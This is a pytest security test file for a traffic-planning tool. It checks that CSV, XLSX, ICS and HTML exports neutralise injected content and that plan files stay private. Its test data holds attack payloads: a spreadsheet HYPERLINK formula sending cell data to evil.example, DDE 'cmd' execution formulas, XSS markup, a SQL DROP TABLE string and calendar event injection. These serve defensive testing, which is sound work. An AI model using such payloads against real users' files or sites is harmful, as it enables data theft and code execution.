"""Output is safe to open, and plans stay private.

- HTML: hostile report text (``<script>``, attributes, ``</textarea>``) is
  escaped in the HTML report.
- CSV/XLSX: text that a spreadsheet would run as a formula (``=``, ``+``,
  ``-``, ``@``, tab, carriage return first) is neutralised; no XLSX cell is a
  formula.
- ICS: commas, semicolons, backslashes and line breaks (an attempt to inject
  ``END:VEVENT``) round-trip as text; the calendar has exactly its events.
- Plans: every plan file is 0600 and every folder a plan command creates 0700
  whatever the umask (the commands run with ``umask 0`` in a subprocess); no
  plan is written inside the data folder unless asked.
"""

from __future__ import annotations

import csv
import hashlib
import stat
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from conftest import copy_lean_sample, make_small_data_dir
from trafikplan.report.calendar import calendar_bytes
from trafikplan.report.export import write_table, write_xlsx

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klicka\")",
    "=1+1",
    "+46701234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "<script>alert('x')</script>",
    "\"; DROP TABLE reports; --",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# -- CSV / XLSX ---------------------------------------------------------------------
def _hostile_frame() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "as_object": pd.Series(HOSTILE, dtype=object),
            "as_string": pd.Series(HOSTILE, dtype="string"),
            "as_category": pd.Series(HOSTILE, dtype="category"),
            "speed": [-5.0 + i for i in range(n)],
            "start": pd.date_range("2024-04-15 07:00", periods=n, freq="h", tz="UTC"),
        }
    )


def test_csv_export_neutralises_formulas_and_keeps_rows_whole(tmp_path: Path) -> None:
    path = write_table(_hostile_frame(), tmp_path / "hostile.csv")
    with open(path, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    for col in ("as_object", "as_string", "as_category"):
        values = [r[header.index(col)] for r in body]
        assert not [v for v in values if v.startswith(FORMULA_START)], values
        # the text is kept, behind an apostrophe
        assert [v.removeprefix("'") for v in values] == [h.replace("\r", "\n") for h in HOSTILE]
    speeds = [float(r[header.index("speed")]) for r in body]
    assert speeds[0] == -5.0  # numbers stay numbers


def test_xlsx_export_has_no_formula_cells(tmp_path: Path) -> None:
    path = write_table(_hostile_frame(), tmp_path / "hostile.xlsx")
    write_xlsx({"a": _hostile_frame(), "b": _hostile_frame()}, tmp_path / "two.xlsx")
    for book_path in (path, tmp_path / "two.xlsx"):
        book = openpyxl.load_workbook(book_path)
        texts = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (book_path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        assert not [t for t in texts if t.startswith(FORMULA_START)]
        assert sum(t.removeprefix("'") == HOSTILE[0] for t in texts) >= 3


# -- ICS ------------------------------------------------------------------------------
def test_ics_escapes_hostile_text_and_keeps_its_events(tmp_path: Path) -> None:
    from icalendar import Calendar

    injected = "Kontroll\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:falsk; kontroll, \\ här"
    events = pd.DataFrame(
        {
            "uid": ["a@trafikplan", "b@trafikplan"],
            "start": pd.to_datetime(["2024-04-15T07:00Z", "2024-04-16T18:00Z"]),
            "end": pd.to_datetime(["2024-04-15T08:00Z", "2024-04-16T19:30Z"]),
            "summary": [injected, "Ringvägen; K01, norr \\ söder"],
            "description": ["rad 1\nrad 2\nEND:VCALENDAR", "<b>=1+1</b>"],
            "location": ["Ringvägen, vid \"Scheelegatan\"", "Skogsleden;K05"],
        }
    )
    data = calendar_bytes(events, name="Kontroller; v16, test", tz="Europe/Stockholm",
                          stamp=datetime(2024, 4, 15, tzinfo=UTC))
    lines = data.decode("utf-8").replace("\r\n ", "").split("\r\n")
    assert lines.count("BEGIN:VEVENT") == 2 and lines.count("END:VEVENT") == 2
    assert lines.count("END:VCALENDAR") == 1
    assert not [x for x in lines if x.startswith("SUMMARY:falsk")]
    cal = Calendar.from_ical(data)
    got = [ev for ev in cal.walk("VEVENT")]
    assert [str(e["summary"]) for e in got] == list(events["summary"].str.replace("\r\n", "\n"))
    assert [str(e["description"]) for e in got] == list(events["description"])
    assert [str(e["location"]) for e in got] == list(events["location"])


# -- HTML ----------------------------------------------------------------------------
@pytest.mark.slow
def test_html_report_escapes_hostile_report_text(tmp_path: Path) -> None:
    import trafikplan
    from trafikplan.pipeline import build_folder_report as build_report

    data = make_small_data_dir(tmp_path / "data")
    toml = data / "trafikplan.toml"  # the free text is shown only when it is kept
    toml.write_text(toml.read_text(encoding="utf-8") + "\n[reports]\nkeep_text = true\n",
                    encoding="utf-8")
    script = "<script>alert('tips')</script>"
    img = "<img src=x onerror=alert(1)>"
    (data / "embrace" / "hostile.csv").write_text(
        "report_id,time,category,street,lat,lon,text\n"
        f"H-1,2024-10-26T22:40:00+02:00,Fortkörning,Ringvägen,,,\"{script} {img}\"\n"
        f"H-2,2024-10-27T01:10:00+01:00,Buskörning,\"Ringvägen</td><td>{img}\",,,"
        "\"</textarea><svg onload=alert(2)> &amp; &lt;\"\n",
        encoding="utf-8",
    )
    tables = trafikplan.load(data)
    assert tables.reports["text"].str.contains("<script>", regex=False).any()
    page = build_report(tables)
    assert "alert('tips')" in page.replace("&#39;", "'")  # the text is shown ...
    for raw in (script, img, "<svg onload", "</textarea>", "<td><img"):
        assert raw not in page  # ... but never as markup
    assert "&lt;script&gt;" in page
    assert "&amp;amp;" in page  # already-escaped text is escaped again, not trusted


# -- plan files: 0600 / 0700 whatever the umask ----------------------------------------
_UMASK0 = (
    "import os, sys; os.umask(0); from trafikplan.cli import main; sys.exit(main(sys.argv[1:]))"
)


def _cli_umask0(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", _UMASK0, *args], capture_output=True,
                          text=True, timeout=600)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _snapshot(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


@pytest.mark.slow
def test_private_files_and_folders_with_umask_zero(tmp_path: Path) -> None:
    code = (
        "import os, sys; from pathlib import Path; os.umask(0)\n"
        "from trafikplan.io.files.atomic import make_dir, write_text, write_bytes\n"
        "root = Path(sys.argv[1])\n"
        "make_dir(root / 'a' / 'b' / 'c', private=True)\n"
        "write_text(root / 'x' / 'y' / 'plan.html', '<p>plan</p>', private=True)\n"
        "write_bytes(root / 'a' / 'b' / 'c' / 'plan.ics', b'BEGIN:VCALENDAR', private=True)\n"
        "write_text(root / 'public' / 'report.html', 'ok')\n"
    )
    root = tmp_path / "out"
    root.mkdir(mode=0o755)
    subprocess.run([sys.executable, "-c", code, str(root)], check=True, timeout=60)
    for rel in ("a", "a/b", "a/b/c", "x", "x/y"):
        assert _mode(root / rel) == 0o700, rel
    for rel in ("x/y/plan.html", "a/b/c/plan.ics"):
        assert _mode(root / rel) == 0o600, rel
    assert _mode(root) == 0o755  # an existing parent is left alone
    assert _mode(root / "public" / "report.html") == 0o644  # umask 0: 0644 as documented


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = copy_lean_sample(tmp_path_factory.mktemp("safe") / "measurements")
    toml = data / "trafikplan.toml"
    text = toml.read_text(encoding="utf-8")
    text = text.replace("[checks]", "[checks]\ntime_limit_s = 1", 1)
    text = text.replace("[measurements]", "[measurements]\ntime_limit_s = 1", 1)
    toml.write_text(text, encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "trafikplan", "import", str(data)],
                            capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr
    return data


def _plan_tree_modes(out: Path) -> tuple[list[str], list[str]]:
    bad_files = [p.as_posix() for p in out.rglob("*") if p.is_file() and _mode(p) != 0o600]
    bad_dirs = [p.as_posix() for p in [out, *out.rglob("*")] if p.is_dir() and _mode(p) != 0o700]
    return bad_files, bad_dirs


@pytest.mark.slow
def test_measurement_plan_files_0600_folders_0700_with_umask_zero(
    imported: Path, tmp_path: Path
) -> None:
    before = _snapshot(imported)
    out = tmp_path / "nya" / "mätplan"
    result = _cli_umask0("plan", "measurements", str(imported), "--start", "2024-11-04",
                         "--weeks", "2", "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert (out / "measurements.csv").is_file()
    bad_files, bad_dirs = _plan_tree_modes(out)
    assert not bad_files and not bad_dirs
    assert _mode(out.parent) == 0o700  # a parent the command created, too
    assert _snapshot(imported) == before  # nothing written into the data folder


@pytest.fixture(scope="module")
def check_plan(imported: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``plan checks -o NEW/DIR`` run once with umask 0; returns DIR."""
    out = tmp_path_factory.mktemp("plans") / "nya" / "kontroller"
    result = _cli_umask0("plan", "checks", str(imported), "--week", "2024-W45", "-o", str(out))
    assert result.returncode == 0, result.stderr
    return out


@pytest.mark.slow
def test_check_plan_files_are_0600_with_umask_zero(imported: Path, check_plan: Path) -> None:
    files = sorted(p.name for p in check_plan.iterdir())
    assert "checks.csv" in files and "checks.html" in files
    assert any(name.endswith(".ics") for name in files)
    bad_files, _ = _plan_tree_modes(check_plan)
    assert not bad_files
    saved = imported / ".trafikplan" / "plans"
    for path in saved.rglob("*"):
        assert _mode(path) == (0o600 if path.is_file() else 0o700), path
    assert _mode(saved) == 0o700


@pytest.mark.slow
def test_check_plan_folders_are_0700_with_umask_zero(check_plan: Path) -> None:
    _, bad_dirs = _plan_tree_modes(check_plan)
    assert not bad_dirs, [(d, oct(_mode(Path(d)))) for d in bad_dirs]
    assert _mode(check_plan.parent) == 0o700


@pytest.mark.slow
def test_plans_without_output_write_nothing_into_the_data_folder(imported: Path) -> None:
    before = _snapshot(imported)
    result = _cli_umask0("plan", "checks", str(imported), "--week", "2024-W46")
    assert result.returncode == 0, result.stderr
    assert _snapshot(imported) == before
